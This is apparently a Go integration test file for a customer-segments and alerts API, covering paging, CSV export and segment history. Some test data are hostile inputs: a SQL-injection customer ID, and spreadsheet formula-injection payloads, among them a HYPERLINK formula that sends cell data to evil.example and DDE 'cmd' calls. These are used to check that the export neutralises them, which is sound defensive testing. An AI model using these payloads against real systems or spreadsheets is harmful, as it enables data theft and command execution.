package app_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cemhq/cem/services/query/internal/journey"
	"github.com/cemhq/cem/services/query/internal/segments"
)

func TestSegmentsIntegration(t *testing.T) {
	forEachLayout(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		now := time.Now()
		ms := func(d time.Duration) int64 { return now.Add(d).UnixMilli() }
		type row struct {
			id, risk, loyalty, rfm, life string
			nps                          *float64
			sleeperAt, endAt, endingAt   int64
			openTickets                  uint32
		}
		f := func(v float64) *float64 { return &v }
		rows := []row{
			{id: "c1", risk: "high", loyalty: "advocate", rfm: "champions", life: "returning", nps: f(10), sleeperAt: ms(-time.Hour)},
			{id: "c2", risk: "low", loyalty: "satisfied", rfm: "at_risk", life: "returning", nps: f(3), sleeperAt: ms(time.Hour), endAt: ms(10 * 24 * time.Hour), endingAt: ms(-time.Hour), openTickets: 2},
			{id: "c3", risk: "high", loyalty: "unbound", rfm: "champions", life: "new", endAt: ms(60 * 24 * time.Hour), endingAt: ms(30 * 24 * time.Hour)},
			{id: "c4'; DROP TABLE events --", risk: "medium", loyalty: "enthusiastic", rfm: "x", life: "new", nps: f(9)},
		}
		b, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+`.customer_scores (customer_id, computed_at, computed_ms, health, churn_risk, churn_reasons,
 sleeper_at_ms, lifecycle, contract_end_ms, contract_ending_at_ms, rfm_segment, loyalty_stage, nps_latest, version)`)
		require.NoError(t, err)
		pb, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+".customer_profiles (customer_id, computed_at, open_tickets, version)")
		require.NoError(t, err)
		for _, r := range rows {
			require.NoError(t, b.Append(r.id, now, now.UnixMilli(), 42.5, r.risk, []string{"no activity for 45 days"}, r.sleeperAt, r.life,
				r.endAt, r.endingAt, r.rfm, r.loyalty, r.nps, uint64(1)))
			require.NoError(t, pb.Append(r.id, now, r.openTickets, uint64(1)))
		}
		require.NoError(t, b.Send())
		require.NoError(t, pb.Send())

		want := map[string][]string{
			"sleepers":                   {"c1"},
			"churn_risk_high":            {"c1", "c3"},
			"contracts_ending":           {"c2"},
			"contracts_ending?days=90":   {"c2", "c3"},
			"promoters":                  {"c1", "c4'; DROP TABLE events --"},
			"detractors":                 {"c2"},
			"advocates":                  {"c1"},
			"loyalty?stage=enthusiastic": {"c4'; DROP TABLE events --"},
			"rfm?segment=champions":      {"c1", "c3"},
			"lifecycle?state=new":        {"c3", "c4'; DROP TABLE events --"},
			"unresolved_tickets":         {"c2"},
		}
		for path, ids := range want {
			sep := "?"
			if strings.Contains(path, "?") {
				sep = "&"
			}
			// Page one member at a time to exercise paging.
			var got []string
			after := ""
			for range 10 {
				var m segments.Members
				e.json("GET", fmt.Sprintf("/api/v1/segments/%s%slimit=1&after=%s", path, sep, urlq(after)), nil, &m)
				for _, x := range m.Members {
					got = append(got, x.CustomerID)
				}
				if m.Next == "" {
					break
				}
				after = m.Next
			}
			sort.Strings(ids)
			assert.Equal(t, ids, got, path)
		}

		code, body := e.do("GET", "/api/v1/segments/rfm", nil)
		assert.Equal(t, http.StatusBadRequest, code, "rfm needs its segment: %s", body)
		code, _ = e.do("GET", "/api/v1/segments/contracts_ending?days=99999", nil)
		assert.Equal(t, http.StatusBadRequest, code)
		code, _ = e.do("GET", "/api/v1/segments/nope", nil)
		assert.Equal(t, http.StatusNotFound, code)

		code, body = e.do("GET", "/api/v1/segments/churn_risk_high?format=csv", nil)
		require.Equal(t, http.StatusOK, code)
		recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, 3)
		assert.Equal(t, "customer_id", recs[0][0])
		assert.Equal(t, "c1", recs[1][0])

		var list struct{ Segments []segments.Info }
		e.json("GET", "/api/v1/segments", nil, &list)
		assert.Len(t, list.Segments, 10)
	})
}

func TestProfileScoresExtensionIntegration(t *testing.T) {
	forEachLayout(t, func(t *testing.T, e *env) {
		d := generate(37, 10)
		d.load(t, e.conn, e.db)
		c := loggedIn(t, d)
		b, err := e.conn.PrepareBatch(context.Background(), "INSERT INTO "+e.db+".customer_scores (customer_id, computed_at, health, churn_risk, churn_reasons, version)")
		require.NoError(t, err)
		require.NoError(t, b.Append(c.User, time.Now(), 31.0, "high", []string{"detractor (NPS 3)"}, uint64(1)))
		require.NoError(t, b.Send())
		var p journey.Profile
		e.json("GET", "/api/v1/customers/"+c.Anon, nil, &p)
		s, ok := p.Extensions["scores"].(map[string]any)
		require.True(t, ok, "%v", p.Extensions)
		assert.Equal(t, "high", s["churn_risk"])
		assert.Equal(t, 31.0, s["health"])
		assert.Equal(t, []any{"detractor (NPS 3)"}, s["churn_reasons"])
	})
}

func urlq(s string) string { return url.QueryEscape(s) }

// Segment sizes over time come from the daily snapshots; open alerts from
// the alerts table.
func TestSegmentHistoryAndAlertsIntegration(t *testing.T) {
	forEachLayout(t, func(t *testing.T, e *env) {
		ctx := context.Background()
		day := func(d int) time.Time { return time.Date(2026, 3, d, 0, 0, 0, 0, time.UTC) }
		b, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+".score_snapshots (day, customer_id, taken_at, churn_risk, lifecycle, sleeper, loyalty_stage, nps_latest, keep)")
		require.NoError(t, err)
		f := func(v float64) *float64 { return &v }
		snaps := []struct {
			d        int
			id, risk string
			life     string
			sleeper  uint8
			nps      *float64
		}{
			{1, "c1", "high", "returning", 0, f(3)}, {1, "c2", "low", "new", 0, f(10)},
			{2, "c1", "high", "dormant", 1, f(3)}, {2, "c2", "high", "returning", 0, nil}, {2, "c3", "low", "new", 0, f(9)},
		}
		for _, s := range snaps {
			require.NoError(t, b.Append(day(s.d), s.id, day(s.d), s.risk, s.life, s.sleeper, "unbound", s.nps, uint64(1)))
		}
		require.NoError(t, b.Send())

		type hist struct {
			Points []segments.Point `json:"points"`
		}
		get := func(path string) []segments.Point {
			var h hist
			e.json("GET", path, nil, &h)
			return h.Points
		}
		assert.Equal(t, []segments.Point{{Day: "2026-03-01", Count: 1}, {Day: "2026-03-02", Count: 2}},
			get("/api/v1/segments/churn_risk_high/history?from=2026-03-01&to=2026-03-31"))
		assert.Equal(t, []segments.Point{{Day: "2026-03-01", Count: 0}, {Day: "2026-03-02", Count: 1}},
			get("/api/v1/segments/sleepers/history?from=2026-03-01&to=2026-03-31"))
		assert.Equal(t, []segments.Point{{Day: "2026-03-01", Count: 1}, {Day: "2026-03-02", Count: 1}},
			get("/api/v1/segments/promoters/history?from=2026-02-01&to=2026-03-02"), "nps 9 and 10; null is no answer")
		assert.Equal(t, []segments.Point{{Day: "2026-03-02", Count: 1}},
			get("/api/v1/segments/lifecycle/history?state=dormant&from=2026-03-02&to=2026-03-02"))
		for _, bad := range []string{
			"/api/v1/segments/contracts_ending/history", "/api/v1/segments/lifecycle/history",
			"/api/v1/segments/sleepers/history?from=2026-13-01", "/api/v1/segments/sleepers/history?from=2026-03-02&to=2026-03-01",
		} {
			code, body := e.do("GET", bad, nil)
			assert.Equal(t, http.StatusBadRequest, code, "%s: %s", bad, body)
		}
		// The list says which segments have a history: exactly those whose
		// history answers.
		var list struct {
			Segments []segments.Info `json:"segments"`
		}
		e.json("GET", "/api/v1/segments", nil, &list)
		require.NotEmpty(t, list.Segments)
		required := map[string]string{"loyalty": "?stage=advocate", "rfm": "?segment=champions", "lifecycle": "?state=new"}
		for _, s := range list.Segments {
			code, body := e.do("GET", "/api/v1/segments/"+s.Name+"/history"+required[s.Name], nil)
			assert.Equal(t, s.History, code == http.StatusOK, "%s: %d %s", s.Name, code, body)
		}

		ab, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+".alerts (alert_id, customer_id, reason, severity, message, action, details, trigger_id, trigger_ms, raised_at, raised_ms, version)")
		require.NoError(t, err)
		now := time.Now().UTC().Truncate(time.Second)
		for i, a := range []struct {
			id, c, reason string
			age           time.Duration
		}{{"a1", "c1", "detractor", time.Hour}, {"a2", "c2", "complaint", 2 * time.Hour}, {"a3", "c1", "churn_high", 30 * 24 * time.Hour}} {
			at := now.Add(-a.age)
			require.NoError(t, ab.Append(a.id, a.c, a.reason, "high", "msg", "contact within 48 h", []string{"NPS 3"}, fmt.Sprint("t", i), at.UnixMilli(), at, at.UnixMilli(), uint64(1)))
		}
		require.NoError(t, ab.Send())
		var al struct {
			Alerts []struct {
				ID     string `json:"alert_id"`
				Action string `json:"action"`
			} `json:"alerts"`
		}
		e.json("GET", "/api/v1/alerts", nil, &al)
		require.Len(t, al.Alerts, 2, "the 30-day-old alert is outside the default 7 days")
		assert.Equal(t, "a1", al.Alerts[0].ID, "newest first")
		assert.Equal(t, "contact within 48 h", al.Alerts[0].Action)
		e.json("GET", "/api/v1/alerts?days=60&customer=c1", nil, &al)
		assert.Len(t, al.Alerts, 2)
		e.json("GET", "/api/v1/alerts?reason=complaint", nil, &al)
		require.Len(t, al.Alerts, 1)
		assert.Equal(t, "a2", al.Alerts[0].ID)
		code, _ := e.do("GET", "/api/v1/alerts?reason=DROP", nil)
		assert.Equal(t, http.StatusBadRequest, code)
	})
}

// A segment export opened as a spreadsheet would open it: no text cell
// starts with a formula prefix, and numbers stay numbers (-1 is -1).
func TestSegmentCSVNeutralisesFormulasIntegration(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	now := time.Now()
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
	b, err := e.conn.PrepareBatch(ctx, "INSERT INTO "+e.db+`.customer_scores (customer_id, computed_at, computed_ms, health, churn_risk, churn_reasons,
 lifecycle, rfm_segment, loyalty_stage, version)`)
	require.NoError(t, err)
	for _, id := range hostile {
		require.NoError(t, b.Append(id, now, now.UnixMilli(), 42.5, "high", []string{"=1+1", "-1"}, "=lifecycle", "@rfm", "+loyalty", uint64(1)))
	}
	require.NoError(t, b.Send())

	code, body := e.do("GET", "/api/v1/segments/churn_risk_high?format=csv", nil)
	require.Equal(t, http.StatusOK, code, string(body))
	recs, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, len(hostile)+1)
	header := recs[0]
	numeric := map[string]bool{"health": true, "nps_latest": true, "days_since_activity": true, "contract_ends_in_days": true}
	ids := map[string]bool{}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if numeric[header[i]] {
				if cell != "" {
					_, err := strconv.ParseFloat(cell, 64)
					assert.NoError(t, err, "%s = %q is not a number", header[i], cell)
				}
				continue
			}
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "text cell %s = %q starts with a formula prefix", header[i], cell)
			}
		}
		ids[strings.TrimPrefix(rec[0], "'")] = true
		col := slices.Index(header, "days_since_activity")
		assert.Equal(t, "-1", rec[col], "a customer without activity: the integer -1 stays -1")
	}
	for _, id := range hostile {
		assert.True(t, ids[id], "customer %q is in the export behind one apostrophe", id)
	}
}
